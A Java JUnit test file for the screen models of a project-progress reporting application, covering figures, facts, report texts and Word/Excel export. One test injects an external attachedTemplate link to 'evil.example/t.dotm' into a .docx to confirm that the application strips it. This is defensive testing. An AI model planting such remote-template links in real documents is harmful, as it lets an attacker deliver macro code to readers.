package gangmu.ui.status;

import static org.assertj.core.api.Assertions.assertThat;

import gangmu.changes.Entity;
import gangmu.changes.Origin;
import gangmu.changes.Ref;
import gangmu.evidence.Fact;
import gangmu.period.ProgressEntry;
import gangmu.period.ReportText;
import gangmu.plan.Item;
import gangmu.plan.PlanProblem;
import gangmu.status.figures.CountedItems;
import gangmu.status.figures.FigureKey;
import gangmu.status.figures.ItemTotal;
import gangmu.status.office.Content;
import gangmu.status.office.SheetLayout;
import gangmu.ui.ModelsOnSmallPlan;
import gangmu.ui.controls.grid.CellEdit;
import gangmu.ui.controls.grid.CellEdits;
import gangmu.ui.controls.grid.EditOutcome;
import gangmu.ui.controls.grid.GridModel;
import gangmu.ui.shell.Desktop;
import gangmu.ui.shell.Destination;
import gangmu.usecase.editing.EditPlan;
import gangmu.usecase.judging.ClosePeriod;
import gangmu.usecase.workspace.Workspace;
import java.nio.file.FileSystem;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Objects;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/** The rules of the screen 报表报告, without a window. */
class StatusModelsTest extends ModelsOnSmallPlan {
    private static final FigureKey NOT_MET = FigureKey.of(CountedItems.PROJECTS, ItemTotal.NOT_MET);

    private EditOutcome type(GridModel grid, Object row, String column, String text) {
        var edited = grid.edit(CellEdits.typed(new CellEdit(row, column, text))).toCompletableFuture();
        on.until(edited::isDone);
        on.settled();
        return edited.join();
    }

    private void report(UUID item, String percent) {
        on.session.edit().set(small.plan, new EditPlan.FieldEdit(new EditPlan.Subject(Item.KIND, item, small.period),
                ProgressEntry.PROGRESS, percent)).join();
        on.settled();
    }

    @Test
    void aFigureIsFollowedToItsSourcesAndTheseIntoThePlan() {
        FiguresModel model = new FiguresModel(on.session);
        model.show(NOT_MET);
        assertThat(model.sources().rowCount()).isZero();
        on.following(model, model::refresh);
        assertThat(model.current().get()).isEqualTo(NOT_MET);
        assertThat(model.said().get()).startsWith("未达到进展要求的重点项目：1 个").contains("来源 1 项");
        assertThat(model.sources().rowKey(0)).isEqualTo(new Ref(Item.KIND, small.behind));
        model.currentSource().set(model.sources().rowKey(0));
        model.openSource();
        assertThat(on.session.place().get()).isEqualTo(new Destination.OneItem(small.behind));
        model.current().set(FigureKey.of(CountedItems.PROJECTS, ItemTotal.TOTAL));
        model.follow();
        assertThat(model.sources().rowCount()).isEqualTo(2);
    }

    @Test
    void whatMovesIsWorkedOutAnewAndTheSameTrailStays() {
        FiguresModel model = new FiguresModel(on.session);
        on.following(model, model::refresh);
        model.show(NOT_MET);
        report(small.behind, "60");
        assertThat(model.sources().rowCount()).isZero();
        assertThat(model.said().get()).startsWith("未达到进展要求的重点项目：0 个");
    }

    @Test
    void factsAreWrittenDownForThePeriodShownFilteredAndFound() {
        FactsModel model = new FactsModel(on.session);
        on.following(model, () -> {
            model.table().refresh();
            model.count();
        });
        var added = model.add();
        on.until(added::isDone);
        on.settled();
        UUID fact = added.join();
        GridModel grid = model.table().grid();
        assertThat(type(grid, fact, "name", "优良天数").refused()).isEmpty();
        assertThat(type(grid, fact, "value", "302").refused()).isEmpty();
        assertThat(type(grid, fact, "base", "280").refused()).as("of which year").isNotEmpty();
        Fact kept = new Fact(Objects.requireNonNull(on.session.workspace().snapshot().find(Fact.KIND, fact)));
        assertThat(kept.period()).isEqualTo(small.period);
        assertThat(kept.value()).isEqualByComparingTo("302");
        assertThat(model.sorts().count(FactsModel.Sort.WITHOUT_SOURCE)).isOne();
        model.sorts().press(FactsModel.Sort.WITHOUT_SOURCE);
        assertThat(grid.rowCount()).isOne();
        type(grid, fact, "issuer", "市生态环境局");
        assertThat(grid.rowCount()).as("a row being edited stays until the filter is set again").isOne();
        model.sorts().press(FactsModel.Sort.WITHOUT_SOURCE);
        model.sorts().press(FactsModel.Sort.WITHOUT_SOURCE);
        assertThat(grid.rowCount()).isZero();
        model.showAll();
        assertThat(grid.rowCount()).isOne();
    }

    @Test
    void whatFailsIsTheFirstOfTheChecksAndLeadsToWhatItIsAbout() {
        ChecksModel model = new ChecksModel(on.session);
        on.following(model, model::refresh);
        List<Integer> ranks = model.grid().rows().stream().map(line -> line.check().fails() ? 0 : line.check().holds() ? 2 : 1).toList();
        assertThat(ranks).isSorted().hasSizeGreaterThan(10);
        var about = model.grid().rows().stream().filter(line -> !line.check().about().isEmpty()).findFirst().orElseThrow();
        model.current().set(about.number());
        model.open();
        assertThat(on.session.place().get()).isEqualTo(Destination.about(about.check().about().getFirst()));
    }

    @Test
    void anEntryIsAddedAndALayoutIsWrittenInPeoplesWords() {
        EntriesModel problems = new EntriesModel(on.session, PlanProblem.KIND);
        on.following(problems, problems.table()::refresh);
        var added = problems.add();
        on.until(added::isDone);
        on.settled();
        assertThat(problems.table().grid().rowKey(0)).isEqualTo(added.join());
        EntriesModel layouts = new EntriesModel(on.session, SheetLayout.KIND);
        on.following(layouts, layouts.table()::refresh);
        var layout = layouts.add();
        on.until(layout::isDone);
        on.settled();
        assertThat(type(layouts.table().grid(), layout.join(), "columns", "名称，完成比例、评估结论").refused()).isEmpty();
        assertThat(new SheetLayout(Objects.requireNonNull(on.session.workspace().snapshot().find(SheetLayout.KIND, layout.join())))
                .columns()).containsExactly("name", "progress", "verdict");
        assertThat(type(layouts.table().grid(), layout.join(), "columns", "名称、不存在的栏目").refused()).singleElement()
                .satisfies(cell -> assertThat(cell.message()).contains("不存在的栏目"));
    }

    @Test
    void theProgramsOwnTextIsNobodysUntilSomebodyWritesOverIt() {
        TextsModel model = new TextsModel(on.session);
        on.following(model, model::refresh);
        String own = model.text().get();
        assertThat(own).isNotBlank();
        assertThat(model.restorable().get()).isFalse();
        model.save();
        on.settled();
        assertThat(on.session.workspace().snapshot().count(ReportText.KIND)).isZero();
        model.text().set("共有[[projects.total]]个项目。");
        model.save();
        on.settled();
        assertThat(on.session.workspace().snapshot().count(ReportText.KIND)).isEqualTo(1);
        assertThat(model.restorable().get()).isTrue();
        model.restore();
        on.settled();
        assertThat(model.text().get()).isEqualTo(own);
        assertThat(model.restorable().get()).isFalse();
    }

    @Test
    void theTextsOfAClosedPeriodAreLockedAndThatIsSaid() {
        TextsModel model = new TextsModel(on.session);
        on.following(model, model::refresh);
        model.text().set("共有[[projects.total]]个项目。");
        model.save();
        on.settled();
        assertThat(model.locked().get()).isEmpty();
        UUID place = on.session.workspace().snapshot().all(ReportText.KIND).iterator().next().id();
        Workspace.await(new ClosePeriod(on.session.workspace()).close(Objects.requireNonNull(on.session.view().get().plan()),
                Objects.requireNonNull(on.session.view().get().period())));
        on.settled();
        assertThat(model.locked().get()).contains("已归档");
        assertThat(model.restorable().get()).isFalse();
        model.text().set("别的话");
        model.save();
        model.restore();
        on.settled();
        assertThat(new ReportText(on.session.workspace().snapshot().find(ReportText.KIND, place)).text()).startsWith("共有");
        Workspace.await(on.session.workspace().submit(Origin.of("edit"), draft -> draft.remove(ReportText.KIND, place)));
        on.settled();
        assertThat(model.text().get()).as("as it was when the period was closed").isEqualTo("共有[[projects.total]]个项目。");
    }

    @Test
    void whatIsBeingWrittenStaysWhenThePlanMoves() {
        TextsModel model = new TextsModel(on.session);
        on.following(model, model::refresh);
        model.writing(true);
        model.text().set("半句");
        report(small.behind, "60");
        assertThat(model.text().get()).isEqualTo("半句");
        model.writing(false);
        report(small.behind, "61");
        assertThat(model.text().get()).isNotEqualTo("半句");
    }

    @Test
    void whatGoesOutIsWrittenWhereTheUserSaysAndOpened() {
        ExportsModel model = new ExportsModel(on.session);
        on.following(model, model::refresh);
        assertThat(model.judged().get()).isTrue();
        assertThat(model.layouts()).hasSize(1);
        on.desktop.target = null;
        model.exportStatus();
        on.settled();
        assertThat(on.desktop.opened).isEmpty();
        on.desktop.target = temp.resolve("表.xlsx");
        model.exportStatus();
        on.settled();
        on.desktop.target = temp.resolve("报告.docx");
        model.exportReport();
        on.settled();
        assertThat(on.desktop.opened).containsExactly(temp.resolve("表.xlsx"), temp.resolve("报告.docx"));
        DraftModel draft = new DraftModel(on.session);
        on.desktop.files = List.of(temp.resolve("报告.docx"));
        draft.choose();
        on.settled();
        assertThat(draft.grid().rowCount()).isZero();
        assertThat(draft.refreshable().get()).isFalse();
        report(small.project, "60");
        draft.choose();
        on.settled();
        assertThat(draft.grid().rowCount()).isPositive();
        assertThat(draft.refreshable().get()).isTrue();
        on.desktop.target = temp.resolve("新报告.docx");
        draft.refresh();
        on.settled();
        assertThat(draft.said().get()).contains("，0 处不一致");
        assertThat(draft.confirmable().get()).as("nothing was typed in").isFalse();
    }

    @Test
    void aPartIsProposedUnderTheNameOfThePart() {
        Workspace.await(on.session.workspace().submit(Origin.of("edit"), draft -> draft.add(Entity.blank(SheetLayout.KIND,
                UUID.randomUUID()).with(SheetLayout.PLAN, small.plan).with(SheetLayout.NAME, "督办")
                .with(SheetLayout.CONTENT, Content.LAGGING))));
        ExportsModel model = new ExportsModel(on.session);
        on.following(model, model::refresh);
        on.settled();
        on.desktop.target = null;
        model.exportStatus();
        on.settled();
        model.layout().set(model.layouts().getLast());
        model.exportStatus();
        on.settled();
        assertThat(on.desktop.proposed).hasSize(2).first().asString().startsWith("进度情况表_");
        assertThat(on.desktop.proposed.getLast()).startsWith("未达到进度的").contains(" 项）_");
    }

    @Test
    void whatWasTakenOutOfTheOfficesTemplateIsSaidOnceTheReportIsWritten() throws Exception {
        ExportsModel model = new ExportsModel(on.session);
        on.following(model, model::refresh);
        Path own = temp.resolve("模板.docx");
        on.desktop.target = own;
        model.exportTemplate();
        on.settled();
        assertThat(on.refused()).isFalse();
        try (FileSystem parts = FileSystems.newFileSystem(own)) {
            Path links = parts.getPath("word", "_rels", "document.xml.rels");
            Files.writeString(links, Files.readString(links).replace("</Relationships>", "<Relationship Id=\"rIdX\" Type=\""
                    + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
                    + "Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"));
        }
        on.desktop.files = List.of(own);
        model.chooseTemplate();
        on.desktop.target = temp.resolve("报告.docx");
        model.exportReport();
        on.settled();
        assertThat(on.said()).contains("报告.docx", "指向其他文件的链接没有带进报告");
        assertThat(on.refused()).as("stays until it is closed").isTrue();
        assertThat(on.desktop.opened).contains(temp.resolve("报告.docx"));
    }

    @Test
    void whereAPlanIsNotReconciledADraftIsWrittenOnlyIfTheUserWantsIt() {
        on.session.workspace().submit(gangmu.changes.Origin.of("edit"), change -> gangmu.period.Reports.report(change,
                UUID::randomUUID, small.behind, small.period, ProgressEntry.INVESTED, new java.math.BigDecimal("999999"))).join();
        on.settled();
        ExportsModel model = new ExportsModel(on.session);
        on.following(model, model::refresh);
        on.desktop.yes = false;
        on.desktop.target = temp.resolve("表.xlsx");
        model.exportStatus();
        on.settled();
        assertThat(on.desktop.asked).hasSize(1);
        assertThat(temp.resolve("表.xlsx")).doesNotExist();
        on.desktop.yes = true;
        model.exportStatus();
        on.settled();
        assertThat(temp.resolve("表.xlsx")).isNotEmptyFile();
    }

    @Test
    void aSheetIsOfAnItemByItsCodeOrOfAUnitByItsName() {
        SheetsModel model = new SheetsModel(on.session);
        Item behind = Objects.requireNonNull(on.session.view().get().tree().find(small.behind));
        model.of().set(" " + behind.code() + " ");
        model.showNamed();
        assertThat(Objects.requireNonNull(model.sheet().get()).page().title()).isNotBlank();
        var before = model.sheet().get();
        model.of().set("区水务局");
        model.showNamed();
        assertThat(model.sheet().get()).isNotEqualTo(before);
        model.of().set("没有这个单位");
        model.showNamed();
        assertThat(on.refused()).isTrue();
        model.printed(Desktop.Printed.SENT, 2);
        assertThat(on.said()).contains("2");
        assertThat(on.refused()).isFalse();
        on.desktop.target = temp.resolve("督办单.docx");
        model.save(Objects.requireNonNull(model.sheet().get()));
        on.settled();
        assertThat(on.desktop.opened).containsExactly(temp.resolve("督办单.docx"));
    }
}
